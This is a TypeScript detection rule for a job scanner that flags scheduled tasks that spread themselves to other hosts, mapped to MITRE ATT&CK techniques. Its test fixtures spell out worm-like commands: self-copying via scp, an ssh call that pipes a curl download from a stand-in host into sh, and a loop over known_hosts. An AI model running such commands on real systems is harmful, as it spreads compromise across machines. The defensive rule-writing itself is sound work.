import { script, shipped, timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";

/** A job copies itself to other hosts, makes them run a download, or goes to every host somebody here ever went to. */
export const spreadsToOtherHosts: ActivationRule = {
  id: "spreads-to-other-hosts",
  subject: "activation",
  title: "Carries itself to other hosts",
  severity: "critical",
  confidence: "medium",
  signal: "suspicious",
  family: "execution",
  depth: "regular",
  techniques: ["T1021.004", "T1570", "T1053.006"],
  controls: ["AC-17", "SC-7", "SI-3"],
  why: "Worms on servers read known_hosts to learn where the keys of this host open a door, and copy themselves there, or have it fetch them. An administrator's job has a list of its own.",
  benign: ["Copies of files to hosts that the job itself names (not accused)"],
  clears: "deploy with configuration management, to hosts from an inventory",
  references: ["https://attack.mitre.org/techniques/T1021/004/"],

  *check(activation, inventory) {
    for (const { behaviour } of behavioursOfKind(activation, new Set(["spreads"])))
      if (!isPackagedPlace(behaviour.span.path, activation, inventory)) yield accuse(behaviour, inventory);
  },

  examples: () => ({
    fires: [
      timed("ExecStart=/usr/local/bin/x", {
        "/usr/local/bin/x": script('scp "$0" web2.example.test:/usr/local/bin/x'),
      }),
      timed("ExecStart=/usr/bin/ssh root@192.0.2.20 'curl -s http://192.0.2.7/a | sh'"),
      timed("ExecStart=/usr/local/bin/x", {
        "/usr/local/bin/x": script(
          "for h in $(cut -d' ' -f1 /root/.ssh/known_hosts | sort -u); do ssh root@$h /srv/x; done",
        ),
      }),
    ],
    quiet: [
      timed("ExecStart=/usr/local/bin/x", {
        "/usr/local/bin/x": script("for h in a b; do scp /srv/zone $h.example.test:/srv/; done"),
      }),
      timed("ExecStart=/usr/bin/ssh-keygen -R old.example.test -f /root/.ssh/known_hosts"),
      shipped(
        "vendor",
        "ExecStart=/bin/sh -c 'for h in $$(cut -f1 /root/.ssh/known_hosts); do ssh $$h true; done'",
      ),
    ],
  }),
};
